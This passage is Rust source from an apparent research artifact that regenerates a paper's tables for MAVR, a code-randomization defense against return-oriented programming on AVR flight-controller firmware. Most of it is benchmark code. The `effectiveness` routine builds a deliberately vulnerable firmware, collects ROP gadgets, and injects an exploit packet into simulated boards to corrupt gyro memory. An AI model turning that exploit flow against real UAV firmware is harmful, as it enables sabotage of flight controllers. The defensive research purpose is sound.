    if want("gadgets") || want("fig4") || want("fig5") {
        let fw = build(&apps::synth_plane(), &BuildOptions::vulnerable_mavr()).unwrap();
        println!("{}", exp::gadget_listings(&fw.image));
    }

    if want("counters") {
        println!(
            "{}",
            exp::render(
                "Activity counters over 2M cycles on a provisioned board (null recorder)",
                &["Insns retired", "Interrupts", "UART TX bytes", "Events"],
                &exp::counters(2_000_000)
            )
        );
        println!(
            "  events flow through a NullRecorder: counted, then discarded — the\n  \
             configuration the `simulator` bench shows costs ~0 vs. telemetry off.\n"
        );
    }

    // Explicitly requested only (writes a file; excluded from `all`).
    if args
        .iter()
        .any(|a| a == "bench-simulator" || a == "bench-simulator-quick")
    {
        let quick = args.iter().any(|a| a == "bench-simulator-quick");
        println!("== Simulator throughput (uncached / predecoded / block-fused) ==");
        let t = exp::simulator_throughput(quick);
        println!(
            "  uncached    : {:>12.0} cycles/sec\n  predecoded  : {:>12.0} cycles/sec  ({:.2}x)\n  block-fused : {:>12.0} cycles/sec  ({:.2}x over predecoded)\n  total       : {:.2}x",
            t.uncached_cycles_per_sec,
            t.predecoded_cycles_per_sec,
            t.predecode_speedup(),
            t.fused_cycles_per_sec,
            t.fusion_speedup(),
            t.total_speedup()
        );
        let path = "BENCH_simulator.json";
        std::fs::write(path, t.to_json()).expect("write BENCH_simulator.json");
        println!("  wrote {path}\n");
    }

    // Explicitly requested only (writes a file; excluded from `all`).
    if args
        .iter()
        .any(|a| a == "bench-fleet" || a == "bench-fleet-quick")
    {
        let quick = args.iter().any(|a| a == "bench-fleet-quick");
        println!("== Fleet campaign throughput (benign, zero loss) ==");
        let t = exp::fleet_throughput(quick);
        for r in &t.rows {
            println!(
                "  {:>3} boards : {:>12.0} boards·cycles/sec  ({} cycles in {:.2}s)",
                r.boards,
                r.cycles_per_sec(),
                r.total_cycles,
                r.secs
            );
        }
        let path = "BENCH_fleet.json";
        std::fs::write(path, t.to_json()).expect("write BENCH_fleet.json");
        println!("  wrote {path}\n");
    }

    // Explicitly requested only (writes a file; excluded from `all`).
    if args
        .iter()
        .any(|a| a == "bench-campaignd" || a == "bench-campaignd-quick")
    {
        let quick = args.iter().any(|a| a == "bench-campaignd-quick");
        println!("== Campaign service memory (sharded benign, streaming merge) ==");
        let t = exp::campaignd_memory(quick);
        for r in &t.rows {
            println!(
                "  {:>6} boards : {:>8.1} jobs/sec, peak rss {:>7.1} MiB  ({:.2}s)",
                r.boards,
                r.jobs_per_sec(),
                r.peak_rss_mb,
                r.secs
            );
        }
        println!(
            "  peak-RSS growth across a {}x campaign-size spread: {:.2}x",
            t.rows.last().map_or(1, |r| r.boards) / t.rows.first().map_or(1, |r| r.boards).max(1),
            t.rss_growth()
        );
        let path = "BENCH_campaignd.json";
        std::fs::write(path, t.to_json()).expect("write BENCH_campaignd.json");
        println!("  wrote {path}\n");
    }

    // Explicitly requested only (writes a file; excluded from `all`).
    if args
        .iter()
        .any(|a| a == "bench-robust" || a == "bench-robust-quick")
    {
        let quick = args.iter().any(|a| a == "bench-robust-quick");
        println!("== Campaign service supervision (MTTR + quarantine overhead) ==");
        let t = exp::robust_service(quick);
        for r in &t.recovery {
            println!(
                "  disk-fault rate {:>4} : MTTR {:>7.1} ms, {:>3} checkpoints skipped, \
                 {:>3} slices to finish",
                r.store_fault_rate, r.mttr_ms, r.checkpoints_skipped, r.slices_to_complete
            );
        }
        for r in &t.quarantine {
            println!(
                "  panic rate {:>5} : {:>3} quarantined of {} jobs  ({:.2}s)",
                r.panic_rate, r.quarantined, t.boards, r.secs
            );
        }
        println!(
            "  worst MTTR {:.1} ms; quarantine overhead at the top rate: {:.2}x",
            t.worst_mttr_ms(),
            t.quarantine_overhead()
        );
        let path = "BENCH_robust.json";
        std::fs::write(path, t.to_json()).expect("write BENCH_robust.json");
        println!("  wrote {path}\n");
    }

    // Explicitly requested only (writes a file; excluded from `all`).
    if args
        .iter()
        .any(|a| a == "bench-snapshot" || a == "bench-snapshot-quick")
    {
        let quick = args.iter().any(|a| a == "bench-snapshot-quick");
        println!("== Snapshot cost (full vs dirty-page delta) ==");
        let t = exp::snapshot_cost(quick);
        println!(
            "  full  : {:>8} bytes, {:>8.1} us\n  delta : {:>8} bytes, {:>8.1} us  ({} cycles after keyframe)\n  ratio : {:.1}x smaller, {:.1}x faster",
            t.full_bytes,
            t.full_encode_us,
            t.delta_bytes,
            t.delta_encode_us,
            t.delta_gap_cycles,
            t.bytes_ratio(),
            t.time_ratio()
        );
        let path = "BENCH_snapshot.json";
        std::fs::write(path, t.to_json()).expect("write BENCH_snapshot.json");
        println!("  wrote {path}\n");
    }

    // Explicitly requested only (writes a file; excluded from `all`).
    if args
        .iter()
        .any(|a| a == "bench-chaos" || a == "bench-chaos-quick")
    {
        let quick = args.iter().any(|a| a == "bench-chaos-quick");
        println!("== Chaos resilience (fault-rate sweep, V1 crash attack) ==");
        let t = exp::chaos_resilience(quick);
        for r in &t.rows {
            println!(
                "  fault {:>8} : {:>3} retries, {:>2} degraded, {:>2} bricked, {:>2}/{} recovered, mttr {}",
                format!("{}", r.fault),
                r.reflash_retries,
                r.degraded_boots,
                r.boards_bricked,
                r.boards_recovered,
                r.boards,
                r.mttr_cycles
                    .map_or("-".to_string(), |m| format!("{m:.0}")),
            );
        }
        if let Some(inflation) = t.mttr_inflation() {
            println!("  mttr inflation at the top rate: {inflation:.2}x");
        }
        let path = "BENCH_chaos.json";
        std::fs::write(path, t.to_json()).expect("write BENCH_chaos.json");
        println!("  wrote {path}\n");
    }

    // Explicitly requested only (writes a file; excluded from `all`).
    if args
        .iter()
        .any(|a| a == "bench-telemetry" || a == "bench-telemetry-quick")
    {
        let quick = args.iter().any(|a| a == "bench-telemetry-quick");
        println!("== Observability plane cost (recorder, metrics, expositions) ==");
        let t = exp::telemetry_overhead(quick);
        println!(
            "  simulator, telemetry off : {:>12.0} cycles/sec\n  \
             simulator, null recorder : {:>12.0} cycles/sec  ({:+.2}% overhead)\n  \
             sketch record            : {:>12.0} ops/sec\n  \
             histogram record (labeled): {:>11.0} ops/sec\n  \
             registry merge ({} series): {:>11.0} merges/sec\n  \
             prometheus exposition    : {:>12.0} dumps/sec\n  \
             jsonl exposition         : {:>12.0} dumps/sec",
            t.off_cycles_per_sec,
            t.null_recorder_cycles_per_sec,
            t.null_recorder_overhead_pct(),
            t.sketch_records_per_sec,
            t.histogram_records_per_sec,
            t.series,
            t.merges_per_sec,
            t.prometheus_per_sec,
            t.jsonl_per_sec,
        );
        let path = "BENCH_telemetry.json";
        std::fs::write(path, t.to_json()).expect("write BENCH_telemetry.json");
        println!("  wrote {path}\n");
    }

    // Explicitly requested only (writes a file; excluded from `all`).
    if args
        .iter()
        .any(|a| a == "bench-world" || a == "bench-world-quick")
    {
        let quick = args.iter().any(|a| a == "bench-world-quick");
        println!("== Closed-loop physics cost (bare vs coupled, fused fast path) ==");
        let t = exp::world_throughput(quick);
        println!(
            "  bare fused    : {:>12.0} cycles/sec\n  \
             coupled fused : {:>12.0} cycles/sec  ({:+.2}% overhead, budget <15%)\n  \
             world steps   : {:>12.0} steps/sec (1 kHz simulated)",
            t.bare_cycles_per_sec,
            t.coupled_cycles_per_sec,
            t.overhead_pct(),
            t.coupled_steps_per_sec,
        );
        let path = "BENCH_world.json";
        std::fs::write(path, t.to_json()).expect("write BENCH_world.json");
        println!("  wrote {path}\n");
    }

    if want("fig6") {
        println!("== Fig. 6: stack progression during the stealthy attack ==");
        for s in exp::fig6(&apps::tiny_test_app()) {
            println!("{}", s.dump());
        }
    }
}
