//! Experiment drivers that regenerate every table and figure of the
//! paper's evaluation (§VII), shared by the `tables` binary and the
//! Criterion benches.
//!
//! | Experiment | Paper artifact | Driver |
//! |---|---|---|
//! | E1 | Table I — number of functions | [`table1`] |
//! | E2 | Table II — startup overhead | [`table2`] |
//! | E3 | Table III — code size change | [`table3`] |
//! | E4 | §VII-A — effectiveness (953 gadgets; attacks fail) | [`effectiveness`] |
//! | E5 | §V-D — brute-force effort | [`bruteforce`] |
//! | E6 | §VIII-B — entropy | [`entropy`] |
//! | F1 | Fig. 2 — MAVLink packet structure | [`fig2`] |
//! | F2 | Figs. 4–5 — gadget listings | [`gadget_listings`] |
//! | F3 | Fig. 6 — stack progression during the stealthy attack | [`fig6`] |

#![forbid(unsafe_code)]

use avr_core::image::FirmwareImage;
use mavlink_lite::GroundStation;
use mavr::policy::RandomizationPolicy;
use mavr_board::{MavrBoard, SerialLink};
use rop::attack::AttackContext;
use rop::scanner::{self, ScanOptions};
use synth_firmware::{apps, build, layout as l, AppSpec, BuildOptions, FirmwareBuild};

/// One row of a numeric table.
#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    /// Application name.
    pub app: String,
    /// Values, column order per experiment.
    pub values: Vec<f64>,
}

/// Render rows with a header, paper-style.
pub fn render(title: &str, columns: &[&str], rows: &[Row]) -> String {
    use std::fmt::Write;
    let mut out = String::new();
    writeln!(out, "== {title} ==").unwrap();
    write!(out, "{:<14}", "Application").unwrap();
    for c in columns {
        write!(out, "{c:>20}").unwrap();
    }
    out.push('\n');
    for r in rows {
        write!(out, "{:<14}", r.app).unwrap();
        for v in &r.values {
            if v.fract() == 0.0 && v.abs() < 1e15 {
                write!(out, "{:>20}", *v as i64).unwrap();
            } else {
                write!(out, "{v:>20.1}").unwrap();
            }
        }
        out.push('\n');
    }
    out
}

/// Build the calibrated paper apps under a given option set. Building a
/// full app takes ~0.5 s; callers should reuse the results.
pub fn paper_builds(options: &BuildOptions) -> Vec<FirmwareBuild> {
    apps::all_paper_apps()
        .iter()
        .map(|spec| build(spec, options).expect("calibrated app builds"))
        .collect()
}

/// **Table I** — number of randomizable function symbols per application.
/// Paper: ArduPlane 917, ArduCopter 1030, ArduRover 800 (avg 915.67,
/// median 917).
pub fn table1() -> Vec<Row> {
    paper_builds(&BuildOptions::safe_mavr())
        .iter()
        .map(|fw| Row {
            app: fw.spec.name.to_string(),
            values: vec![fw.image.function_count() as f64],
        })
        .collect()
}

/// **Table II** — startup overhead in ms when the application is
/// randomized and reprogrammed at boot. Paper: 19209 / 21206 / 15412
/// (avg 18609, median 19209) at 115200 baud.
pub fn table2() -> Vec<Row> {
    let link = SerialLink::prototype();
    paper_builds(&BuildOptions::safe_mavr())
        .iter()
        .map(|fw| Row {
            app: fw.spec.name.to_string(),
            values: vec![link.transfer_ms(fw.image.code_size()).round()],
        })
        .collect()
}

/// **Table II (production estimate)** — §VII-B1's ~4 s figure on a
/// production PCB where flash page writes are the bottleneck.
pub fn table2_production() -> Vec<Row> {
    let link = SerialLink::production();
    paper_builds(&BuildOptions::safe_mavr())
        .iter()
        .map(|fw| Row {
            app: fw.spec.name.to_string(),
            values: vec![link.programming_ms(fw.image.code_size()).round()],
        })
        .collect()
}

/// **Table III** — code size, stock toolchain vs MAVR custom toolchain.
/// Paper: 221608→221294, 244532→244292, 177870→177556.
pub fn table3() -> Vec<Row> {
    let stock = paper_builds(&BuildOptions::safe_stock());
    let mavr = paper_builds(&BuildOptions::safe_mavr());
    stock
        .iter()
        .zip(&mavr)
        .map(|(s, m)| Row {
            app: s.spec.name.to_string(),
            values: vec![
                f64::from(s.image.code_size()),
                f64::from(m.image.code_size()),
            ],
        })
        .collect()
}

/// Outcome of the §VII-A effectiveness experiment.
#[derive(Debug, Clone)]
pub struct Effectiveness {
    /// Unique gadgets found in the unprotected target (paper: 953).
    pub gadgets_unique: usize,
    /// Total ret-reaching start addresses (no dedup).
    pub gadgets_total: usize,
    /// Attack attempts against the *unprotected* image.
    pub stock_attempts: usize,
    /// … of which succeeded (sensor set, no crash).
    pub stock_successes: usize,
    /// Attack attempts against *randomized* images (fresh permutation each).
    pub randomized_attempts: usize,
    /// … of which succeeded. The paper's result: none.
    pub randomized_successes: usize,
    /// … of which crashed visibly and were detected + reflashed by the
    /// master.
    pub randomized_detected: usize,
    /// Gadget addresses from the unprotected image that still host the same
    /// gadget after one randomization (should be near zero).
    pub gadget_survivors: usize,
}

/// **§VII-A effectiveness**: scan the target for gadgets, run the stealthy
/// V2 attack against the unprotected image (expect success) and against
/// `trials` freshly randomized boards (expect zero successes; majority
/// detected and recovered).
///
/// Pass [`apps::tiny_test_app`] for fast runs, [`apps::synth_plane`] for
/// the paper-scale target.
pub fn effectiveness(spec: &AppSpec, trials: u64) -> Effectiveness {
    let fw = build(spec, &BuildOptions::vulnerable_mavr()).expect("build");
    let scan = scanner::scan(&fw.image, &ScanOptions::default());
    let scan_all = scanner::scan(
        &fw.image,
        &ScanOptions {
            dedup: false,
            ..Default::default()
        },
    );
    let one_shuffle = mavr::randomize(
        &fw.image,
        &mut mavr::seeded_rng(0x5caa),
        &mavr::RandomizeOptions::default(),
    )
    .expect("randomize");
    let gadget_survivors =
        scanner::survivors(&fw.image, &one_shuffle.image, &ScanOptions::default());
    let ctx = AttackContext::discover(&fw.image).expect("attack discovery");
    let payload = ctx
        .v2_payload(&[(l::GYRO + 3, [0xde, 0xad, 0x42])])
        .expect("payload");

    // Against the unprotected binary.
    let mut stock_successes = 0;
    {
        let mut m = avr_sim::Machine::new_atmega2560();
        m.load_flash(0, &fw.image.bytes);
        m.run(200_000);
        let mut gcs = GroundStation::new();
        m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
        let exit = m.run(2_000_000);
        if exit.is_healthy() && m.peek_range(l::GYRO + 3, 3) == vec![0xde, 0xad, 0x42] {
            stock_successes = 1;
        }
    }

    // Against randomized boards.
    let mut randomized_successes = 0;
    let mut randomized_detected = 0;
    for seed in 0..trials {
        let mut board = MavrBoard::provision(&fw.image, seed, RandomizationPolicy::default())
            .expect("provision");
        board.run(300_000).expect("run");
        let mut gcs = GroundStation::new();
        board.uplink(&gcs.exploit_packet(&payload).unwrap());
        board.run(6_000_000).expect("run");
        if board.app.machine.peek_range(l::GYRO + 3, 3) == vec![0xde, 0xad, 0x42] {
            randomized_successes += 1;
        }
        if board.recoveries() >= 1 {
            randomized_detected += 1;
        }
    }
    Effectiveness {
        gadgets_unique: scan.len(),
        gadgets_total: scan_all.len(),
        stock_attempts: 1,
        stock_successes,
        randomized_attempts: trials as usize,
        randomized_successes,
        randomized_detected,
        gadget_survivors,
    }
}

/// **§V-D brute force**: Monte-Carlo means vs the closed forms for a small
/// function count where simulation is feasible. Trials fan out across the
/// available cores with deterministic per-trial seeds (see
/// [`rop::brute::run_trials`]), so the numbers are reproducible regardless
/// of the host's parallelism. Returns
/// `(sim_fixed, theory_fixed, sim_rerandomized, theory_rerandomized)`.
pub fn bruteforce(n_functions: usize, trials: u64) -> (f64, f64, f64, f64) {
    use rop::brute::BruteModel;
    let mean_fixed = rop::brute::mean_attempts(BruteModel::Fixed, n_functions, trials, 0x5eed);
    let mean_rerand =
        rop::brute::mean_attempts(BruteModel::Rerandomized, n_functions, trials, 0x5eed);
    let n_perms = mavr::math::factorial_f64(n_functions as u64);
    (
        mean_fixed,
        mavr::math::expected_attempts_fixed(n_perms),
        mean_rerand,
        mavr::math::expected_attempts_rerandomized(n_perms),
    )
}

/// **§VIII-B entropy** — bits of permutation entropy per application.
pub fn entropy() -> Vec<Row> {
    apps::all_paper_apps()
        .iter()
        .map(|a| Row {
            app: a.name.to_string(),
            values: vec![mavr::math::entropy_bits(a.functions as u64).round()],
        })
        .collect()
}

/// **Activity counters** — instructions retired, interrupts, UART traffic,
/// and flight-recorder events emitted per application over `cycles`
/// simulated cycles.
///
/// Apps fly on a fully provisioned MAVR board, so each row includes the
/// master's boot/randomize/program lifecycle events. A container that
/// exceeds the prototype's 256 KiB external flash (image + symbol
/// directives — SynthCopter) runs the application processor bare instead;
/// a healthy bare flight emits no events, which is the point: the recorder
/// only speaks on lifecycle and failure paths.
///
/// Telemetry runs through a [`telemetry::NullRecorder`]: every emission is
/// counted but immediately discarded, the configuration whose overhead is
/// measured (and shown to be ~0) by the `simulator` Criterion bench.
pub fn counters(cycles: u64) -> Vec<Row> {
    use telemetry::{NullRecorder, Telemetry};
    let mut builds = vec![build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap()];
    builds.extend(paper_builds(&BuildOptions::safe_mavr()));
    builds
        .iter()
        .map(|fw| {
            let tele = Telemetry::new(NullRecorder::default());
            let c = match MavrBoard::provision_with(
                &fw.image,
                1,
                RandomizationPolicy::default(),
                tele.clone(),
            ) {
                Ok(mut board) => {
                    board.run(cycles).expect("healthy flight");
                    board.app.machine.counters()
                }
                Err(_) => {
                    // Container too large for the prototype chip: bare run.
                    let mut m = avr_sim::Machine::new_atmega2560();
                    m.telemetry = tele.clone();
                    m.load_flash(0, &fw.image.bytes);
                    m.run(cycles);
                    m.counters()
                }
            };
            Row {
                app: fw.spec.name.to_string(),
                values: vec![
                    c.insns_retired as f64,
                    c.interrupts_taken as f64,
                    c.uart_tx_bytes as f64,
                    tele.events_emitted() as f64,
                ],
            }
        })
        .collect()
}

/// Measured simulator throughput (simulated cycles per second of host
/// time) on the `run_1M_cycles/tiny_firmware` workload, across the
/// three-tier engine chain: decode-every-fetch (`uncached`), the
/// predecode cache + fast run loop (`predecoded`), and block-fused
/// superinstruction dispatch (`fused` — the default configuration). See
/// [`simulator_throughput`].
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct SimulatorThroughput {
    /// Cycles/sec with `Machine::set_predecode(false)`.
    pub uncached_cycles_per_sec: f64,
    /// Cycles/sec with the predecode cache on but
    /// `Machine::set_block_fusion(false)`.
    pub predecoded_cycles_per_sec: f64,
    /// Cycles/sec with block fusion on (the default).
    pub fused_cycles_per_sec: f64,
    /// Samples per configuration the medians were taken over.
    pub samples: usize,
}

impl SimulatorThroughput {
    /// `predecoded / uncached` — the factor the predecode cache buys.
    pub fn predecode_speedup(&self) -> f64 {
        self.predecoded_cycles_per_sec / self.uncached_cycles_per_sec
    }

    /// `fused / predecoded` — the factor block fusion buys on top.
    pub fn fusion_speedup(&self) -> f64 {
        self.fused_cycles_per_sec / self.predecoded_cycles_per_sec
    }

    /// `fused / uncached` — the whole chain.
    pub fn total_speedup(&self) -> f64 {
        self.fused_cycles_per_sec / self.uncached_cycles_per_sec
    }

    /// The `BENCH_simulator.json` payload (hand-rolled; the workspace has
    /// no JSON dependency).
    pub fn to_json(&self) -> String {
        format!(
            "{{\n  \"bench\": \"run_1M_cycles/tiny_firmware\",\n  \"unit\": \"cycles_per_sec\",\n  \"samples\": {},\n  \"uncached\": {:.0},\n  \"predecoded\": {:.0},\n  \"block_fused\": {:.0},\n  \"predecode_speedup\": {:.2},\n  \"fusion_speedup\": {:.2},\n  \"total_speedup\": {:.2}\n}}\n",
            self.samples,
            self.uncached_cycles_per_sec,
            self.predecoded_cycles_per_sec,
            self.fused_cycles_per_sec,
            self.predecode_speedup(),
            self.fusion_speedup(),
            self.total_speedup()
        )
    }
}

/// Measure simulator throughput across the engine chain — uncached,
/// predecoded, block-fused (`quick` = fewer samples, for CI smoke).
///
/// The three legs are interleaved round-robin (one sample of each per
/// round) so slow load drift on a shared machine cannot land entirely on
/// one leg and skew the ratios, and each leg reports its *fastest*
/// sample: external noise only ever adds time, so the minimum is the
/// robust estimator of the engine's actual speed.
pub fn simulator_throughput(quick: bool) -> SimulatorThroughput {
    const CYCLES: u64 = 1_000_000;
    let samples = if quick { 3 } else { 11 };
    let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
    let time_leg = |predecode: bool, fusion: bool| -> f64 {
        let mut m = avr_sim::Machine::new_atmega2560();
        m.set_predecode(predecode);
        m.set_block_fusion(fusion);
        m.load_flash(0, &fw.image.bytes);
        let t0 = std::time::Instant::now();
        m.run(CYCLES);
        let dt = t0.elapsed().as_secs_f64();
        assert!(m.fault().is_none(), "bench firmware crashed");
        dt
    };
    let mut best = [f64::INFINITY; 3];
    for _ in 0..samples {
        for (i, (predecode, fusion)) in [(false, false), (true, false), (true, true)]
            .iter()
            .enumerate()
        {
            best[i] = best[i].min(time_leg(*predecode, *fusion));
        }
    }
    SimulatorThroughput {
        uncached_cycles_per_sec: CYCLES as f64 / best[0],
        predecoded_cycles_per_sec: CYCLES as f64 / best[1],
        fused_cycles_per_sec: CYCLES as f64 / best[2],
        samples,
    }
}

/// One fleet-size point of the campaign-throughput curve.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FleetBenchRow {
    /// Boards in the campaign.
    pub boards: usize,
    /// Simulated application cycles summed over every board.
    pub total_cycles: u64,
    /// Wall-clock seconds for the whole campaign (build + provision + fly).
    pub secs: f64,
}

impl FleetBenchRow {
    /// Aggregate simulated cycles per wall-clock second — the campaign
    /// engine's headline number (`boards · cycles / sec`).
    pub fn cycles_per_sec(&self) -> f64 {
        self.total_cycles as f64 / self.secs
    }
}

/// Measured campaign throughput at several fleet sizes. See
/// [`fleet_throughput`].
#[derive(Debug, Clone, PartialEq)]
pub struct FleetThroughput {
    /// One row per fleet size, smallest first.
    pub rows: Vec<FleetBenchRow>,
    /// Cycles each board flies (warmup + attack window).
    pub cycles_per_board: u64,
}

impl FleetThroughput {
    /// The `BENCH_fleet.json` payload (hand-rolled; the workspace has no
    /// JSON dependency).
    pub fn to_json(&self) -> String {
        let rows = self
            .rows
            .iter()
            .map(|r| {
                format!(
                    "    {{\"boards\": {}, \"total_cycles\": {}, \"secs\": {:.3}, \
                     \"boards_cycles_per_sec\": {:.0}}}",
                    r.boards,
                    r.total_cycles,
                    r.secs,
                    r.cycles_per_sec()
                )
            })
            .collect::<Vec<_>>()
            .join(",\n");
        format!(
            "{{\n  \"bench\": \"fleet_campaign/benign\",\n  \"unit\": \"boards_cycles_per_sec\",\n  \"cycles_per_board\": {},\n  \"rows\": [\n{}\n  ]\n}}\n",
            self.cycles_per_board, rows
        )
    }
}

/// Measure fleet-campaign throughput: a benign campaign (no attack, zero
/// loss) at 1, 8 and 32 boards, timed end to end — firmware build, N
/// provisions (container read + randomize + program), and the flight
/// itself over the channel/router plumbing. `quick` shortens the flight
/// for CI smoke runs.
pub fn fleet_throughput(quick: bool) -> FleetThroughput {
    use mavr_fleet::{run_campaign, CampaignConfig, Scenario};
    let (warmup, flight) = if quick {
        (100_000, 400_000)
    } else {
        (300_000, 1_700_000)
    };
    let rows = [1usize, 8, 32]
        .iter()
        .map(|&boards| {
            let cfg = CampaignConfig {
                boards,
                scenarios: vec![Scenario::Benign],
                loss_levels: vec![0.0],
                warmup_cycles: warmup,
                attack_cycles: flight,
                ..CampaignConfig::default()
            };
            let t0 = std::time::Instant::now();
            let report = run_campaign(&cfg);
            let secs = t0.elapsed().as_secs_f64();
            assert_eq!(report.outcomes.len(), boards, "every board reported");
            FleetBenchRow {
                boards,
                total_cycles: report.outcomes.iter().map(|o| o.final_cycle).sum(),
                secs,
            }
        })
        .collect();
    FleetThroughput {
        rows,
        cycles_per_board: warmup + flight,
    }
}

/// One campaign-size point of the service's constant-memory curve.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct CampaignBenchRow {
    /// Boards (= jobs; one benign cell) in the campaign.
    pub boards: usize,
    /// Wall-clock seconds to run every shard and merge the report.
    pub secs: f64,
    /// Process peak RSS (`VmHWM`) after this campaign, in MiB. The
    /// constant-memory claim is that this column stays flat while the
    /// boards column grows 100x.
    pub peak_rss_mb: f64,
}

impl CampaignBenchRow {
    /// Jobs completed per wall-clock second, merge included.
    pub fn jobs_per_sec(&self) -> f64 {
        self.boards as f64 / self.secs
    }
}

/// Measured campaign-service cost at several campaign sizes. See
/// [`campaignd_memory`].
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignServiceBench {
    /// One row per campaign size, smallest first (peak RSS is monotonic,
    /// so a flat column means the big campaigns added nothing).
    pub rows: Vec<CampaignBenchRow>,
    /// Jobs per shard checkpoint.
    pub shard_jobs: u64,
    /// Cycles each board flies.
    pub cycles_per_board: u64,
}

impl CampaignServiceBench {
    /// Largest-over-smallest peak-RSS ratio — ~1.0 is the constant-memory
    /// claim (the job count grows 100x between those rows).
    pub fn rss_growth(&self) -> f64 {
        match (self.rows.first(), self.rows.last()) {
            (Some(a), Some(b)) if a.peak_rss_mb > 0.0 => b.peak_rss_mb / a.peak_rss_mb,
            _ => 1.0,
        }
    }

    /// The `BENCH_campaignd.json` payload.
    pub fn to_json(&self) -> String {
        let rows = self
            .rows
            .iter()
            .map(|r| {
                format!(
                    "    {{\"boards\": {}, \"secs\": {:.3}, \"jobs_per_sec\": {:.1}, \
                     \"peak_rss_mb\": {:.1}}}",
                    r.boards,
                    r.secs,
                    r.jobs_per_sec(),
                    r.peak_rss_mb
                )
            })
            .collect::<Vec<_>>()
            .join(",\n");
        format!(
            "{{\n  \"bench\": \"campaignd/sharded_benign\",\n  \"unit\": \"jobs_per_sec\",\n  \
             \"shard_jobs\": {},\n  \"cycles_per_board\": {},\n  \"rss_growth\": {:.2},\n  \
             \"rows\": [\n{}\n  ]\n}}\n",
            self.shard_jobs,
            self.cycles_per_board,
            self.rss_growth(),
            rows
        )
    }
}

/// Process peak resident set (`VmHWM`) in MiB, from `/proc/self/status`;
/// 0.0 where the file does not exist (non-Linux).
pub fn peak_rss_mb() -> f64 {
    let Ok(text) = std::fs::read_to_string("/proc/self/status") else {
        return 0.0;
    };
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("VmHWM:") {
            let kb: f64 = rest
                .trim()
                .trim_end_matches("kB")
                .trim()
                .parse()
                .unwrap_or(0.0);
            return kb / 1024.0;
        }
    }
    0.0
}

/// Measure the campaign service end to end — shard execution, per-board
/// JSONL streaming, checkpoint flushes, and the two-pass report merge —
/// at campaign sizes spanning two orders of magnitude, recording peak RSS
/// after each. Because shard outcomes stream to disk and metrics fold
/// through the registry merge, the peak-RSS column stays flat as the
/// board count grows 100x: the service's memory is O(shard), not
/// O(campaign). `quick` caps the largest campaign for CI smoke runs.
/// Sizes run smallest-first because `VmHWM` is monotonic — a flat column
/// therefore proves the big campaigns allocated no more than the small
/// ones.
pub fn campaignd_memory(quick: bool) -> CampaignServiceBench {
    use mavr_campaignd::{merge_store, CampaignSession, CampaignSpec, CampaignStore};
    use std::sync::atomic::AtomicBool;
    use std::sync::Arc;

    let sizes: &[usize] = if quick {
        &[100, 1_000, 10_000]
    } else {
        &[1_000, 10_000, 100_000]
    };
    // Short flights: the point is service overhead and memory, not
    // simulated-cycle throughput (BENCH_fleet.json covers that).
    let (warmup, flight) = (40_000u64, 60_000u64);
    let shard_jobs = 256u64;
    let root = std::env::temp_dir()
        .join("mavr-campaignd-bench")
        .join(std::process::id().to_string());
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(&root).expect("bench scratch dir");

    let rows = sizes
        .iter()
        .map(|&boards| {
            let mut spec = CampaignSpec::named(&format!("bench-{boards}"));
            spec.boards = boards;
            spec.scenarios = vec![mavr_fleet::Scenario::Benign];
            spec.warmup_cycles = warmup;
            spec.attack_cycles = flight;
            spec.shard_jobs = shard_jobs;
            let store = CampaignStore::create(&root, spec).expect("create campaign");
            let session = CampaignSession::new(
                store,
                telemetry::Telemetry::off(),
                Arc::new(AtomicBool::new(false)),
            )
            .expect("session");
            let t0 = std::time::Instant::now();
            let outcome = session.run(None, None).expect("run campaign");
            assert!(outcome.complete, "bench campaign ran to completion");
            merge_store(&session.store).expect("merge campaign");
            let secs = t0.elapsed().as_secs_f64();
            CampaignBenchRow {
                boards,
                secs,
                peak_rss_mb: peak_rss_mb(),
            }
        })
        .collect();
    let _ = std::fs::remove_dir_all(&root);
    CampaignServiceBench {
        rows,
        shard_jobs,
        cycles_per_board: warmup + flight,
    }
}

/// One disk-fault-rate point of the service-recovery sweep.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct RobustRecoveryRow {
    /// Probability each durable-write step (create/write/sync/rename)
    /// misbehaves: EIO, ENOSPC, or a short write.
    pub store_fault_rate: f64,
    /// Milliseconds from "process gone" back to checkpointed progress:
    /// store reopen + session rebuild (firmware relink) + a one-job
    /// resume slice, after a run that stopped mid-campaign.
    pub mttr_ms: f64,
    /// Checkpoint flushes the resumed session abandoned to injected disk
    /// faults while driving the campaign to completion (each one re-runs
    /// its slice — degraded, never lost).
    pub checkpoints_skipped: u64,
    /// Resume slices the session needed to finish under this fault rate.
    pub slices_to_complete: u64,
}

/// One sabotage-rate point of the quarantine-overhead sweep.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct RobustQuarantineRow {
    /// Probability a job is a persistent panicker (seeded, per-job fate).
    pub panic_rate: f64,
    /// Jobs quarantined — the `quarantine.jsonl` line count after merge.
    pub quarantined: u64,
    /// Wall-clock seconds to run every shard and merge the report.
    pub secs: f64,
}

/// Measured cost of the service's supervision machinery. See
/// [`robust_service`].
#[derive(Debug, Clone, PartialEq)]
pub struct RobustServiceBench {
    /// One row per injected disk-fault rate, clean baseline first.
    pub recovery: Vec<RobustRecoveryRow>,
    /// One row per sabotage panic rate, clean baseline first.
    pub quarantine: Vec<RobustQuarantineRow>,
    /// Boards (= jobs; one benign cell) per campaign.
    pub boards: usize,
    /// Cycles each board flies.
    pub cycles_per_board: u64,
}

impl RobustServiceBench {
    /// Slowest recovery across the fault sweep — the MTTR the CI gate
    /// bounds.
    pub fn worst_mttr_ms(&self) -> f64 {
        self.recovery.iter().map(|r| r.mttr_ms).fold(0.0, f64::max)
    }

    /// Wall-clock ratio of the highest sabotage rate over the clean
    /// baseline — what retries + quarantine cost an otherwise identical
    /// campaign.
    pub fn quarantine_overhead(&self) -> f64 {
        match (self.quarantine.first(), self.quarantine.last()) {
            (Some(a), Some(b)) if a.secs > 0.0 => b.secs / a.secs,
            _ => 1.0,
        }
    }

    /// The `BENCH_robust.json` payload.
    pub fn to_json(&self) -> String {
        let base_secs = self.quarantine.first().map_or(0.0, |r| r.secs);
        let recovery = self
            .recovery
